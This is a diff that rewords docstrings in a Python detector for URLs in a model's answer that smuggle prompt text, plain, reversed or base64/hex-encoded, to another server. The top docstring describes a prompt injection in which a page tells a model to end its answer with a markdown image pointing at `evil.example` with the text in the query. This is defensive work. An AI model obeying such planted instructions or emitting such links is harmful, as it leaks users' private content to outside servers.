@@ -1,7 +1,7 @@
-"""Find addresses in an answer that would send the text of the prompt to another server.
+"""Find addresses in an answer that would send text of the prompt to another server.
 
-A page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`. Whoever shows the
-picture, or follows the link, sends the address, with the paper's words in it, to that server.
+A web page or a document may tell a model to end its answer with `![](https://evil.example/?q=…)`. If somebody displays
+this picture, or follows such a link, its address is sent to that server, with the words of the paper in it.
 """
 
 from __future__ import annotations
@@ -35,7 +35,9 @@ _APART = re.compile(r"[\W_]+")
 
 @dataclass(frozen=True, slots=True)
 class _Said:
-    """The texts in all addresses of one server: in their paths, in the values of their queries, and elsewhere."""
+    """The texts that the addresses of one server contain: in their paths, in the values of their queries, and in other
+    parts.
+    """
 
     paths: list[str]
     values: list[str]
@@ -43,11 +45,11 @@ class _Said:
 
 
 def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] = ()) -> tuple[str, ...]:
-    """Return warnings about addresses in an answer that contain text of the prompt, and about the servers of its
-    pictures.
+    """Return warnings about addresses in an answer that contain text of the prompt, and about the servers from which
+    the answer shows pictures.
 
-    `shown` are the turns that the model was shown, `known` are sources that a search found. Addresses that occur in
-    these may be repeated.
+    `shown` are the turns that the model got, and `known` are sources that a search found. There is no warning about
+    addresses that occur in these.
     """
     texts = [each.content for each in shown]
     found = list(_strange(answer, [*texts, *(each.url for each in known if each.url)]))
@@ -67,7 +69,7 @@ def warnings_about(answer: str, shown: Sequence[Turn], known: Sequence[Source] =
 
 
 def _strange(answer: str, known: Sequence[str]) -> Iterator[str]:
-    """Yield the addresses of an answer that do not occur in anything the model was given."""
+    """Yield the addresses in an answer that occur in nothing that the model got."""
     room = MOST
     for found in _ADDRESS.finditer(answer):
         address = found[0].rstrip(").,;:!?]}*_")
@@ -95,7 +97,7 @@ def _split(address: str) -> SplitResult:
 
 
 def _by_host(addresses: Sequence[str]) -> dict[str, _Said]:
-    """Return the texts in the addresses of each server."""
+    """Return the texts in the addresses of each server, by the server's host name."""
     hosts: dict[str, _Said] = {}
     for address in addresses:
         parts = _split(address)
@@ -119,14 +121,16 @@ def _carries(said: _Said, prompt: str) -> bool:
 
 
 def _shares(pieces: Sequence[str], prompt: str, least: int) -> bool:
-    """Return True if the pieces, joined or decoded, share at least `least` consecutive characters with the prompt."""
+    """Return True if the pieces, joined or decoded, have at least `least` consecutive characters in common with the
+    prompt.
+    """
     told = unquote_plus("".join(pieces))
     readings = [told, told[::-1], *(reading for each in pieces for reading in _coded(unquote_plus(each)))]
     return any(_has_run(_plain(each), prompt, least) for each in readings)
 
 
 def _coded(text: str) -> Iterator[str]:
-    """Yield the decoded text of each run of base64 or hexadecimal digits."""
+    """Yield the decoded text of each sequence of base64 or hexadecimal digits."""
     for found in _CODED.finditer(text):
         for decode in (_base64, bytes.fromhex):
             try:
@@ -140,7 +144,9 @@ def _base64(run: str) -> bytes:
 
 
 def _has_run(text: str, prompt: str, least: int) -> bool:
-    """Return True if the texts share `least` consecutive characters, found by windows of half that length."""
+    """Return True if the two texts have at least `least` consecutive characters in common. To be fast, pieces of half
+    that length are looked up first.
+    """
     half = least // 2
     for at in range(0, len(text) - half + 1, half):
         if text[at : at + half] not in prompt:
